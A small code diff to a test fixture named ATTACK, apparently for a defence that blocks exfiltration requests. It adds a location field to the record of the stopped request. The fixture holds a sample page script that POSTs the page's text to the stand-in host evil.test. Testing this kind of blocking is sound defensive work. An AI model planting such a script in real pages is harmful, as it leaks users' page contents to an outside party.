@@ -12,7 +12,7 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["ATT&CK T1041", "Fetch standard: no-cors"],
     "arrives": [{"what": "request", "name": "evil.test", "path": "/fetch"}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"]}],
+    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
     "page": "<h1>Report</h1><script>fetch('http://evil.test/fetch', {method: 'POST', mode: 'no-"
     "cors', body: document.body.innerText})</script>",
 }
